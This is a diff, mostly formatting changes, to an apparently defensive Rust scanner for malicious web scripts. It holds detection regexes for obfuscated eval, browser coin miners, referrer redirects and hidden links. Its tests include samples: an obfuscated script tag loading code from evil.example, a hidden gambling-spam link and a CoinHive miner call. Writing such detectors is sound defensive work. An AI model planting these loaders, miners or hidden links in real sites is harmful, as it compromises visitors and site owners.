@@ -43,27 +43,37 @@ fn regex(pattern: &str) -> Regex {
 }
 
 static EVAL_DECODE: LazyLock<Regex> = LazyLock::new(|| {
-    regex(r"(?i)\beval\s*\(\s*(?:window\.)?(?:unescape|atob|decodeURIComponent|escape|String\.fromCharCode)\s*\(")
+    regex(
+        r"(?i)\beval\s*\(\s*(?:window\.)?(?:unescape|atob|decodeURIComponent|escape|String\.fromCharCode)\s*\(",
+    )
 });
 static CHAR_CODES: LazyLock<Regex> =
     LazyLock::new(|| regex(r"String\.fromCharCode\s*\(\s*(?:\d+\s*,\s*){19,}\d+"));
 static HEX_BLOB: LazyLock<Regex> = LazyLock::new(|| regex(r"(?:\\x[0-9a-fA-F]{2}){40,}"));
 static MINER: LazyLock<Regex> = LazyLock::new(|| {
-    regex(r"(?i)coinhive|coin-hive|CoinHive\.Anonymous|authedmine|cryptonight|crypto-loot|cryptoloot|webminepool|jsecoin|minero\.cc|coinimp|deepminer|\bnew\s+Miner\s*\(")
+    regex(
+        r"(?i)coinhive|coin-hive|CoinHive\.Anonymous|authedmine|cryptonight|crypto-loot|cryptoloot|webminepool|jsecoin|minero\.cc|coinimp|deepminer|\bnew\s+Miner\s*\(",
+    )
 });
 static REFERRER: LazyLock<Regex> = LazyLock::new(|| regex(r"document\.referrer"));
 static SEARCH_ENGINE: LazyLock<Regex> = LazyLock::new(|| {
     regex(r#"(?i)["'/.](?:baidu|google|sogou|so\.com|soso|bing|sm\.cn|360|yahoo|yandex|youdao)"#)
 });
 static REDIRECT: LazyLock<Regex> = LazyLock::new(|| {
-    regex(r#"(?i)(?:(?:window|top|self|document)\.)?location(?:\.href)?\s*=\s*['"]https?:|location\.(?:replace|assign)\s*\(\s*['"]https?:"#)
+    regex(
+        r#"(?i)(?:(?:window|top|self|document)\.)?location(?:\.href)?\s*=\s*['"]https?:|location\.(?:replace|assign)\s*\(\s*['"]https?:"#,
+    )
 });
 static WRITE: LazyLock<Regex> = LazyLock::new(|| regex(r"document\s*\.\s*write(?:ln)?\s*\("));
 static HIDE_BY_ID: LazyLock<Regex> = LazyLock::new(|| {
-    regex(r#"getElementById\s*\(\s*['"]([\w-]+)['"]\s*\)\s*\.style\.(?:display\s*=\s*['"]none['"]|visibility\s*=\s*['"]hidden['"])"#)
+    regex(
+        r#"getElementById\s*\(\s*['"]([\w-]+)['"]\s*\)\s*\.style\.(?:display\s*=\s*['"]none['"]|visibility\s*=\s*['"]hidden['"])"#,
+    )
 });
 static HIDE_BY_JQUERY: LazyLock<Regex> = LazyLock::new(|| {
-    regex(r#"\$\(\s*['"]([#.][\w-]+)['"]\s*\)\s*\.(?:hide\s*\(\s*\)|css\s*\(\s*['"]display['"]\s*,\s*['"]none['"]\s*\))"#)
+    regex(
+        r#"\$\(\s*['"]([#.][\w-]+)['"]\s*\)\s*\.(?:hide\s*\(\s*\)|css\s*\(\s*['"]display['"]\s*,\s*['"]none['"]\s*\))"#,
+    )
 });
 
 /// Everything [`Signal`] describes in one script's text, in the order of the tests.
@@ -140,9 +150,11 @@ fn decodes_to_code(call: &str) -> bool {
         .collect::<String>()
         .to_ascii_lowercase();
     !decoded.contains("mailto:")
-        && ["<script", "<iframe", "http", "location", "eval", "document", "window", "<a "]
-            .iter()
-            .any(|w| decoded.contains(w))
+        && [
+            "<script", "<iframe", "http", "location", "eval", "document", "window", "<a ",
+        ]
+        .iter()
+        .any(|w| decoded.contains(w))
 }
 
 /// At most `max` bytes of `text`, cut at a character boundary.
@@ -247,7 +259,11 @@ fn js_escape(rest: &str) -> (String, usize) {
     let Some(c) = chars.next() else {
         return (String::new(), 0);
     };
-    let hex = |digits: &str| u32::from_str_radix(digits, 16).ok().and_then(char::from_u32);
+    let hex = |digits: &str| {
+        u32::from_str_radix(digits, 16)
+            .ok()
+            .and_then(char::from_u32)
+    };
     match c {
         'x' => rest
             .get(1..3)
@@ -341,13 +357,25 @@ mod tests {
             Vec::<&str>::new(),
             "letters and digits are not code"
         );
-        let code: Vec<String> = "<script src=http://x.example>".bytes().map(|b| b.to_string()).collect();
+        let code: Vec<String> = "<script src=http://x.example>"
+            .bytes()
+            .map(|b| b.to_string())
+            .collect();
         assert_eq!(
             kinds(&format!("var s=String.fromCharCode({});", code.join(","))),
             ["obfuscation"]
         );
-        let mail: Vec<String> = "<a href=\"mailto:press@example.org\">".bytes().map(|b| b.to_string()).collect();
-        assert!(kinds(&format!("document.body.innerHTML+=String.fromCharCode({});", mail.join(","))).is_empty());
+        let mail: Vec<String> = "<a href=\"mailto:press@example.org\">"
+            .bytes()
+            .map(|b| b.to_string())
+            .collect();
+        assert!(
+            kinds(&format!(
+                "document.body.innerHTML+=String.fromCharCode({});",
+                mail.join(",")
+            ))
+            .is_empty()
+        );
         assert_eq!(
             kinds("var miner = new CoinHive.Anonymous('key'); miner.start();"),
             ["miner"]
@@ -362,8 +390,13 @@ mod tests {
 
     #[test]
     fn ordinary_code_is_not_suspicious() {
-        assert!(kinds("var a = String.fromCharCode(65, 66); console.log(document.referrer);").is_empty());
-        assert!(kinds("if (location.hash) { window.location.href = '/search?q=' + q; }").is_empty());
+        assert!(
+            kinds("var a = String.fromCharCode(65, 66); console.log(document.referrer);")
+                .is_empty()
+        );
+        assert!(
+            kinds("if (location.hash) { window.location.href = '/search?q=' + q; }").is_empty()
+        );
     }
 
     #[test]
@@ -371,20 +404,29 @@ mod tests {
         let signals = scan(
             r#"document.write(unescape("%3Cdiv style='display:none'%3E%3Ca href='http://x.example/'%3E百家乐%3C/a%3E%3C/div%3E"));"#,
         );
-        assert!(matches!(&signals[..], [Signal::Written { html, decoded: true, .. }]
-            if html == "<div style='display:none'><a href='http://x.example/'>百家乐</a></div>"));
-        let signals = scan(r#"document.write('<scr' + 'ipt src="\x2f\x2fevil.example/a.js"></scr' + 'ipt>');"#);
-        assert!(matches!(&signals[..], [Signal::Written { html, decoded: true, .. }]
-            if html == r#"<script src="//evil.example/a.js"></script>"#));
-        let signals = scan(r#"document.write('<scr' + 'ipt src="//cdn.example/a.js"></scr' + 'ipt>');"#);
-        assert!(matches!(&signals[..], [Signal::Written { decoded: false, .. }]));
+        assert!(
+            matches!(&signals[..], [Signal::Written { html, decoded: true, .. }]
+            if html == "<div style='display:none'><a href='http://x.example/'>百家乐</a></div>")
+        );
+        let signals = scan(
+            r#"document.write('<scr' + 'ipt src="\x2f\x2fevil.example/a.js"></scr' + 'ipt>');"#,
+        );
+        assert!(
+            matches!(&signals[..], [Signal::Written { html, decoded: true, .. }]
+            if html == r#"<script src="//evil.example/a.js"></script>"#)
+        );
+        let signals =
+            scan(r#"document.write('<scr' + 'ipt src="//cdn.example/a.js"></scr' + 'ipt>');"#);
+        assert!(matches!(
+            &signals[..],
+            [Signal::Written { decoded: false, .. }]
+        ));
     }
 
     #[test]
     fn hidden_elements_are_named() {
-        let signals = scan(
-            "document.getElementById('links').style.display='none'; $('.yqlj').hide();",
-        );
+        let signals =
+            scan("document.getElementById('links').style.display='none'; $('.yqlj').hide();");
         let selectors: Vec<_> = signals
             .iter()
             .filter_map(|s| match s {
